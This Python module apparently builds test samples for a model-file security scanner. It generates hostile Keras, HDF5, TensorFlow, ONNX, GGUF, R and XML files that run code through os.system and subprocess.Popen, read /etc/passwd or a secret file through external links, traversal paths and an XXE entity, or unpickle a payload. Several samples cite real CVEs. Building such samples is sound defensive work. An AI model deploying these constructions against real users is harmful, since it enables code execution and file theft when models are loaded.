"""Graphs and model files of Keras, TensorFlow, ONNX, HDF5, GGUF and others that act when they are loaded or run."""

from __future__ import annotations

import gzip
import io
import json
import struct
import tempfile
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING, Any

from bench.corpus.documents import TEMPLATES
from bench.corpus.gadgets import INNER
from bench.corpus.sample import MARKER, SECRET, SECRET_WORDS, Sample, single

if TYPE_CHECKING:
    from collections.abc import Iterator


def _keras() -> Iterator[Sample]:
    import h5py
    import keras
    import numpy as np

    keras.config.enable_unsafe_deserialization()

    def make(layer: Any) -> Any:
        inputs = keras.Input((3,))
        return keras.Model(inputs, layer(inputs))

    runs = lambda x: (__import__("builtins").open("marker", "w").close(), x)[1]

    def saved(model: Any, end: str) -> bytes:
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / f"model{end}"
            model.save(path)
            return path.read_bytes()

    plain = make(keras.layers.Dense(2))
    lam = make(keras.layers.Lambda(runs, output_shape=(3,)))
    with tempfile.TemporaryDirectory() as folder:
        before = Path.cwd()
        import os

        os.chdir(folder)
        yield_these = [
            ("keras-code", "lambda.keras", saved(lam, ".keras"), "keras"),
            ("keras-code", "lambda.h5", saved(lam, ".h5"), "keras"),
            ("keras-code", "lambda-in-sequential.keras", saved(keras.Sequential([keras.Input((3,)), keras.layers.Lambda(runs, output_shape=(3,))]), ".keras"), "keras"),
            ("keras-code", "lambda-in-model-in-model.keras", saved(make(lam), ".keras"), "keras"),
            ("keras-code", "lambda-in-time-distributed.keras", saved(keras.Sequential([keras.Input((2, 3)), keras.layers.TimeDistributed(keras.layers.Lambda(runs, output_shape=(3,)))]), ".keras"), "keras"),
            ("keras-code", "to-json.json", lam.to_json().encode(), "keras-json"),
        ]  # fmt: skip
        os.chdir(before)
    for sample in yield_these:
        yield single(*sample)

    def changed(change: Any, base: bytes = b"") -> bytes:
        data = base or saved(plain, ".keras")
        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
            for name in old.namelist():
                body = old.read(name)
                if name == "config.json":
                    config = json.loads(body)
                    change(config)
                    body = json.dumps(config).encode()
                new.writestr(name, body)
        return out.getvalue()

    def dense(config: dict[str, Any]) -> dict[str, Any]:
        return next(layer for layer in config["config"]["layers"] if layer["class_name"] == "Dense")

    def activation(value: object) -> Any:
        return lambda config: dense(config)["config"].update(activation=value)

    def initialiser(value: object) -> Any:
        return lambda config: dense(config)["config"].update(kernel_initializer=value)

    fn = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    yield single(
        "keras-injection", "function-of-os.keras", changed(activation(fn)), "", "fixed in Keras 3.9: CVE-2025-1550"
    )
    popen = {
        "module": "subprocess",
        "class_name": "Popen",
        "config": {"args": ["touch", MARKER]},
        "registered_name": None,
    }
    yield single("keras-injection", "class-of-subprocess.keras", changed(initialiser(popen)), "", "CVE-2025-1550")
    getf = {
        "module": "keras.utils",
        "class_name": "function",
        "config": "get_file",
        "registered_name": "keras.utils.get_file",
    }
    yield single("keras-injection", "get-file.keras", changed(activation(getf)), "", "CVE-2025-8747")
    path = {
        "module": "keras.src.utils.file_utils",
        "class_name": "get_file",
        "config": {"fname": "x", "origin": "file:///etc/passwd"},
        "registered_name": None,
    }
    yield single("keras-injection", "get-file-as-class.keras", changed(initialiser(path)), "")
    torch_wrapper = {
        "module": "keras.layers",
        "class_name": "TorchModuleWrapper",
        "config": {
            "name": "x",
            "module": {"class_name": "__torch_module__", "config": __import__("base64").b64encode(INNER).decode()},
        },
        "registered_name": None,
    }
    yield single(
        "keras-code",
        "torch-module-wrapper.keras",
        changed(initialiser(torch_wrapper)),
        "",
        "unpickles; CVE-2025-49655",
    )
    lookup = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"vocabulary": "/etc/passwd", "name": "x"},
        "registered_name": None,
    }
    yield single(
        "keras-file", "string-lookup.keras", changed(initialiser(lookup)), "", "reads the file: CVE-2025-12058"
    )
    custom = {"module": "evil", "class_name": "Net", "config": {}, "registered_name": "evil>Net"}
    yield single("keras-injection", "own-module.keras", changed(initialiser(custom)), "")
    yield single(
        "keras-injection",
        "lambda-in-activation.keras",
        changed(
            activation(
                {"class_name": "__lambda__", "config": {"value": "4wAAAA==", "defaults": None, "closure": None}}
            )
        ),
        "",
    )
    yield single(
        "keras-injection",
        "build-config.keras",
        changed(lambda c: c.update(compile_config={"optimizer": "adam", "loss": fn})),
        "",
    )
    yield single(
        "keras-code",
        "class-name-lambda.keras",
        changed(
            lambda c: dense(c).update(
                class_name="Lambda",
                module="keras.layers",
                config={
                    "name": "x",
                    "function": {
                        "class_name": "__lambda__",
                        "config": {"code": "4wAAAA==", "defaults": None, "closure": None},
                    },
                },
            )
        ),
        "",
    )
    duplicate = changed(lambda _: None)
    with zipfile.ZipFile(io.BytesIO(duplicate)) as archive:
        config = archive.read("config.json").decode()
    evil = config.replace('"activation": "linear"', f'"activation": "linear", "activation": {json.dumps(fn)}')
    yield single("keras-injection", "key-twice.keras", _member(duplicate, "config.json", evil.encode()), "")
    with tempfile.TemporaryDirectory() as folder:
        target = Path(folder) / "w.h5"
        with h5py.File(target, "w") as file:
            file["layers"] = h5py.ExternalLink("/etc/passwd.h5", "/x")
        yield single(
            "hdf5-external",
            "weights-link.keras",
            _member(saved(plain, ".keras"), "model.weights.h5", target.read_bytes()),
            "",
        )
        with h5py.File(target, "w") as file:
            file.create_dataset("w", (20,), "u1", external=[(SECRET, 0, 20)])
        yield single("hdf5-external", "external-storage.h5", target.read_bytes(), "hdf5")
        (Path(folder) / "other.h5").write_bytes(_h5_secret())
        with h5py.File(target, "w") as file:
            file["w"] = h5py.ExternalLink("other.h5", "/secret")
        yield Sample(
            "hdf5-external", "external-link", {"model.h5": target.read_bytes(), "other.h5": _h5_secret()}, "hdf5"
        )
        layout = h5py.VirtualLayout((len(SECRET_WORDS),), "u1")
        layout[:] = h5py.VirtualSource("other.h5", "secret", (len(SECRET_WORDS),))
        with h5py.File(target, "w", libver="latest") as file:
            file.create_virtual_dataset("w", layout)
        yield Sample(
            "hdf5-external", "virtual-dataset", {"model.h5": target.read_bytes(), "other.h5": _h5_secret()}, "hdf5"
        )
        with h5py.File(target, "w") as file:
            file.create_dataset("w", data=np.zeros(4))
            file.attrs["model_config"] = json.dumps(
                {
                    "class_name": "Sequential",
                    "config": {
                        "layers": [
                            {
                                "class_name": "Lambda",
                                "config": {"function": ["4wAAAA==", None, None], "function_type": "lambda"},
                            }
                        ]
                    },
                }
            )
        yield single("keras-code", "old-lambda.h5", target.read_bytes(), "")
        with h5py.File(target, "w") as file:
            file["a/b/c"] = h5py.ExternalLink("../../etc/x.h5", "/")
        yield single("hdf5-external", "deep-link.hdf5", target.read_bytes(), "")
        yield single(
            "hdf5-external",
            "behind-a-user-block.h5",
            b"x" * 512 + target.read_bytes(),
            "",
            "HDF5 looks for its magic at 512, 1024, ...",
        )


def _h5_secret() -> bytes:
    import h5py
    import numpy as np

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.h5"
        with h5py.File(path, "w") as file:
            file["secret"] = np.frombuffer(SECRET_WORDS.encode(), "u1")
        return path.read_bytes()


def _member(data: bytes, name: str, instead: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        for known in old.namelist():
            new.writestr(known, instead if known == name else old.read(known))
    return out.getvalue()


def _tensorflow() -> Iterator[Sample]:
    import tensorflow as tf

    def folder_of(function: Any, **more: bytes) -> dict[str, bytes]:
        module = tf.Module()
        module.f = tf.function(function, input_signature=[])
        with tempfile.TemporaryDirectory() as temporary:
            tf.saved_model.save(module, temporary)
            root = Path(temporary)
            files = {str(p.relative_to(root)): p.read_bytes() for p in root.rglob("*") if p.is_file()}
        first = files.pop("saved_model.pb")
        return {"saved_model.pb": first, **files, **more}

    def writes() -> Any:
        tf.io.write_file(MARKER, "x")
        return tf.constant(1)

    def reads() -> Any:
        return tf.io.read_file(SECRET)

    def prints() -> Any:
        tf.print("x", output_stream=f"file://{MARKER}")
        return tf.constant(1)

    def lists() -> Any:
        return tf.io.matching_files("/etc/*")

    def lines() -> Any:
        return (
            next(iter(tf.data.TextLineDataset(SECRET).take(1)))
            if tf.executing_eagerly()
            else tf.data.TextLineDataset(SECRET).reduce(tf.constant(""), lambda a, b: a + b)
        )

    def in_branch() -> Any:
        return tf.cond(tf.random.uniform(()) < 2.0, lambda: writes(), lambda: tf.constant(0))  # noqa: PLW0108

    def in_loop() -> Any:
        def body(i: Any) -> Any:
            tf.io.write_file(MARKER, "x")
            return i + 1

        return tf.while_loop(lambda i: i < 1, body, [tf.constant(0)])

    def saves() -> Any:
        tf.raw_ops.SaveV2(prefix=MARKER, tensor_names=["a"], shape_and_slices=[""], tensors=[tf.constant(1)])
        tf.raw_ops.WriteFile(filename=tf.strings.join(["mar", "ker"]), contents="x")
        return tf.constant(1)

    def computed() -> Any:
        tf.io.write_file(tf.strings.join([MARKER[:3], MARKER[3:]]), "x")
        return tf.constant(1)

    def summary() -> Any:
        writer = tf.raw_ops.SummaryWriter()
        tf.raw_ops.CreateSummaryFileWriter(
            writer=writer, logdir=MARKER, max_queue=1, flush_millis=1, filename_suffix="x"
        )
        return tf.constant(1)

    def table() -> Any:
        found = tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)
        tf.raw_ops.InitializeTableFromTextFileV2(
            table_handle=found, filename="/etc/passwd", key_index=-2, value_index=-1
        )
        return tf.constant(1)

    def restores() -> Any:
        return tf.raw_ops.RestoreV2(prefix="/etc/x", tensor_names=["a"], shape_and_slices=[""], dtypes=[tf.float32])[
            0
        ]

    def calls() -> Any:
        return tf.py_function(lambda: 1, [], tf.int32)

    for function, loader in (
        (writes, "saved-model"), (reads, "saved-model"), (prints, "saved-model"), (lists, ""), (lines, "saved-model"),
        (in_branch, "saved-model"), (in_loop, "saved-model"), (saves, "saved-model"), (computed, "saved-model"),
        (summary, "saved-model"), (table, ""), (restores, ""), (calls, ""),
    ):  # fmt: skip
        try:
            yield Sample("tensorflow", function.__name__.strip("_").replace("_", "-"), folder_of(function), loader)
        except (ValueError, TypeError, RuntimeError) as error:
            print("left out:", function.__name__, str(error)[:80])
    graph = tf.Graph()
    with graph.as_default():
        tf.raw_ops.WriteFile(filename=MARKER, contents="x", name="run_write")
    data = graph.as_graph_def().SerializeToString()
    yield single("tensorflow", "frozen.pb", data, "frozen-graph")
    yield single("tensorflow", "graph.pbtxt", str(graph.as_graph_def()).encode(), "")
    with graph.as_default():
        meta = tf.compat.v1.train.export_meta_graph(graph=graph)
    yield single("tensorflow", "model.meta", meta.SerializeToString(), "")
    with tf.Graph().as_default() as reading:
        tf.raw_ops.ReadFile(filename=SECRET, name="run_read")
    yield single("tensorflow", "reads.pb", reading.as_graph_def().SerializeToString(), "frozen-graph")
    with tempfile.TemporaryDirectory() as temporary:
        module = tf.Module()
        Path(temporary, "vocabulary.txt").write_text("a\n")
        module.asset = tf.saved_model.Asset(f"{temporary}/vocabulary.txt")
        tf.saved_model.save(module, f"{temporary}/m")
        saved = Path(temporary, "m", "saved_model.pb").read_bytes()
        climbing = saved.replace(b"vocabulary.txt", b"../../../../xx")
        yield Sample("tensorflow", "asset-climbs", {"saved_model.pb": climbing}, "")
    converter = tf.lite.TFLiteConverter.from_concrete_functions(
        [tf.function(lambda: tf.io.read_file(SECRET), input_signature=[]).get_concrete_function()]
    )
    converter.target_spec.supported_ops = [tf.lite.OpsSet.TFLITE_BUILTINS, tf.lite.OpsSet.SELECT_TF_OPS]
    try:
        yield single("tensorflow", "flex-reads.tflite", converter.convert(), "", "needs the Flex delegate")
    except Exception as error:
        print("left out: flex", str(error)[:80])


def _onnx() -> Iterator[Sample]:
    from onnx import TensorProto, helper

    def external(location: str, where: str = "initializer") -> bytes:
        tensor = TensorProto(
            name="w", data_type=TensorProto.UINT8, dims=[len(SECRET_WORDS)], data_location=TensorProto.EXTERNAL
        )
        for key, value in (("location", location), ("offset", "0"), ("length", str(len(SECRET_WORDS)))):
            tensor.external_data.add(key=key, value=value)
        output = helper.make_tensor_value_info("y", TensorProto.UINT8, [len(SECRET_WORDS)])
        if where == "initializer":
            node = helper.make_node("Identity", ["w"], ["y"])
            graph = helper.make_graph([node], "g", [], [output], [tensor])
        else:
            graph = helper.make_graph([helper.make_node("Constant", [], ["y"], value=tensor)], "g", [], [output])
        return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8).SerializeToString()

    for name, location in (
        ("dots", f"../{SECRET}"),
        ("absolute", "/etc/passwd"),
        ("dots-within", f"a/../../{SECRET}"),
        ("backslash", f"..\\{SECRET}"),
        ("double-slash", f".//..//{SECRET}"),
        ("dot", f"./../{SECRET}"),
    ):
        yield single("onnx", f"{name}.onnx", external(location), "")
    yield single("onnx", "constant.onnx", external(f"../{SECRET}", "constant"), "")
    output = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])

    def with_domain(domain: str, kind: str = "Evil", **attributes: object) -> bytes:
        graph = helper.make_graph([helper.make_node(kind, [], ["y"], domain=domain, **attributes)], "g", [], [output])
        return helper.make_model(
            graph, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid(domain, 1)], ir_version=8
        ).SerializeToString()

    yield single("onnx", "custom-domain.onnx", with_domain("evil"), "")
    yield single("onnx", "pyop.onnx", with_domain("com.microsoft", "PyOp", module="os", class_name="x"), "")
    inner = helper.make_graph(
        [helper.make_node("Evil", [], ["z"], domain="evil")],
        "b",
        [],
        [helper.make_tensor_value_info("z", TensorProto.FLOAT, [1])],
    )
    condition = helper.make_node("Constant", [], ["c"], value=helper.make_tensor("c", TensorProto.BOOL, [], [True]))
    branch = helper.make_node("If", ["c"], ["y"], then_branch=inner, else_branch=inner)
    graph = helper.make_graph([condition, branch], "g", [], [output])
    yield single(
        "onnx",
        "in-a-branch.onnx",
        helper.make_model(
            graph, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("evil", 1)], ir_version=8
        ).SerializeToString(),
        "",
    )
    function = helper.make_function(
        "local",
        "F",
        [],
        ["y"],
        [helper.make_node("Evil", [], ["y"], domain="evil")],
        [helper.make_opsetid("evil", 1)],
    )
    graph = helper.make_graph([helper.make_node("F", [], ["y"], domain="local")], "g", [], [output])
    yield single(
        "onnx",
        "in-a-function.onnx",
        helper.make_model(
            graph,
            functions=[function],
            opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("local", 1)],
            ir_version=8,
        ).SerializeToString(),
        "",
    )


def _gguf(template: str, name: str = "tokenizer.chat_template") -> bytes:
    def text(value: str) -> bytes:
        raw = value.encode()
        return struct.pack("<Q", len(raw)) + raw

    pairs = [("general.architecture", "llama"), (name, template)]
    body = b"GGUF" + struct.pack("<IQQ", 3, 0, len(pairs))
    for key, value in pairs:
        body += text(key) + struct.pack("<I", 8) + text(value)
    return body + bytes(-len(body) % 32)


def _others() -> Iterator[Sample]:
    for name in ("lipsum", "cycler", "attr filter", "in a macro"):
        yield single("gguf-template", f"{name.replace(' ', '-')}.gguf", _gguf(TEMPLATES[name]), "gguf")
    yield single(
        "gguf-template", "named-template.gguf", _gguf(TEMPLATES["lipsum"], "tokenizer.chat_template.tool_use"), "gguf"
    )
    yield single(
        "gguf-malformed",
        "huge-count.gguf",
        b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 1 << 60),
        "",
        "CVE-2024-21836 and its kin",
    )
    yield single("gguf-malformed", "offset-outside.gguf", _gguf_offset(), "")
    symbol = struct.pack(">II", 1, 0x00040009) + struct.pack(">I", 6) + b"system"
    nil = struct.pack(">I", 254)
    promise = (
        struct.pack(">I", 5)
        + nil
        + struct.pack(">I", 6)
        + symbol
        + struct.pack(">I", 2)
        + struct.pack(">I", 0x10)
        + struct.pack(">I", 1)
        + struct.pack(">I", 0x00040009)
        + struct.pack(">I", 12)
        + b"touch marker"
        + nil
    )
    rds = b"X\n" + struct.pack(">III", 2, 0x00040301, 0x00020300) + promise
    yield single("r-code", "promise.rds", gzip.compress(rds), "", "CVE-2024-27322; no R here")
    yield single("r-code", "plain.rds", rds, "")
    language = (
        b"X\n"
        + struct.pack(">III", 2, 0x00040301, 0x00020300)
        + struct.pack(">I", 3)
        + struct.pack(">I", 0xFD)
        + nil
        + struct.pack(">I", 6)
        + symbol
        + nil
    )
    yield single("r-code", "closure.rds", gzip.compress(language), "")
    doctype = b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header>&x;</Header></PMML>'
    yield single("xml", "entity.pmml", doctype, "")
    yield single("xml", "entity-openvino.xml", doctype.replace(b"PMML", b"net"), "")
    extension = b'<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="Evil" version="extension"/></layers><edges/></net>'
    yield single("xml", "custom-layer.xml", extension, "")
    yield single("paddle", "pickle.pdparams", INNER, "pickle")


def _gguf_offset() -> bytes:
    def text(value: str) -> bytes:
        return struct.pack("<Q", len(value)) + value.encode()

    body = (
        b"GGUF" + struct.pack("<IQQ", 3, 1, 1) + text("general.architecture") + struct.pack("<I", 8) + text("llama")
    )
    body += text("w") + struct.pack("<IQIQ", 1, 1 << 40, 0, 1 << 50)
    return body + bytes(-len(body) % 32)


def samples() -> list[Sample]:
    """All of them."""
    return [*_keras(), *_tensorflow(), *_onnx(), *_others()]
